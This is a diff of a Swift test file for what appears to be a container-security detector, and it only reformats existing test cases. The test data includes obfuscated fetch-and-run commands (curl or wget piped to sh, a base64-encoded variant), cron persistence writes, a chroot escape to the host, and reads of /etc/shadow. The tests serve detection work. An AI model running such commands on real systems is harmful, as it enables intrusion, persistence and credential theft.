@@ -6,12 +6,17 @@ import Testing
     @Test(arguments: [
         (["sleep", "1000"], ["sleep 1000"]),
         (["sh", "-c", "c\"\"url  http://x|sh"], ["sh -c curl http://x | sh"]),
-        (["sh", "-c", "wget${IFS}-q$IFS-O-\thttp://x>/tmp/a&&sh /tmp/a"], ["sh -c wget -q -O- http://x > /tmp/a && sh /tmp/a"]),
+        (
+            ["sh", "-c", "wget${IFS}-q$IFS-O-\thttp://x>/tmp/a&&sh /tmp/a"],
+            ["sh -c wget -q -O- http://x > /tmp/a && sh /tmp/a"]
+        ),
         (["sh", "-c", "\\c\\u\\r\\l 'http://x' >> /y"], ["sh -c curl http://x >> /y"]),
         (["printf", "\\x63\\x75\\x72\\x6c"], ["printf curl"]),
         (["sh", "-c", "a\nb"], ["sh -c a ; b"]),
-        (["sh", "-c", "echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh"],
-         ["sh -c echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh", "curl http://x | sh"]),
+        (
+            ["sh", "-c", "echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh"],
+            ["sh -c echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh", "curl http://x | sh"]
+        ),
         (["sh", "-c", "echo aGVsbG8gd29ybGQhIQ=="], ["sh -c echo aGVsbG8gd29ybGQhIQ=="]),
     ])
     func `a command has one spelling`(arguments: [String], readings: [String]) {
@@ -28,21 +33,30 @@ import Testing
 
     @Test func `a path under a mount is written as the host path it leads to`() {
         var deployment = ContainerDeployment(
-            event: .init(action: .containerCreate, dataset: .dockerAPI), route: .dockerAPI)
+            event: .init(action: .containerCreate, dataset: .dockerAPI),
+            route: .dockerAPI
+        )
         deployment.host.mounts = [.init(source: HostPath("/"), target: "/tmp3f9a1c", isReadOnly: false)]
-        deployment.process.args = ["sh", "-c", "echo x >/tmp3f9a1c/etc/cron.d/1m; chroot /tmp3f9a1c sh; ls /tmp3f9a1cd"]
+        deployment.process.args = [
+            "sh", "-c", "echo x >/tmp3f9a1c/etc/cron.d/1m; chroot /tmp3f9a1c sh; ls /tmp3f9a1cd",
+        ]
         #expect(deployment.hostCommands == ["sh -c echo x > host:/etc/cron.d/1m ; chroot host:/ sh ; ls /tmp3f9a1cd"])
     }
 
     @Test func `a subdirectory mount and a way out of the working directory lead to the host`() {
         var deployment = ContainerDeployment(
-            event: .init(action: .containerCreate, dataset: .dockerAPI), route: .dockerAPI)
+            event: .init(action: .containerCreate, dataset: .dockerAPI),
+            route: .dockerAPI
+        )
         deployment.host.mounts = [.init(source: HostPath("/etc"), target: "/e", isReadOnly: true)]
         deployment.process.args = ["cat", "/e/shadow"]
-        deployment.process.hooks = [["sh", "-c", "echo y >> ../../../../etc/crontab"], ["ls", "/proc/1/root/root"], ["ls", "/"]]
+        deployment.process.hooks = [
+            ["sh", "-c", "echo y >> ../../../../etc/crontab"], ["ls", "/proc/1/root/root"], ["ls", "/"],
+        ]
         #expect(
             deployment.hostCommands == [
                 "cat host:/etc/shadow", "sh -c echo y >> host:/etc/crontab", "ls host:/root",
-            ])
+            ]
+        )
     }
 }
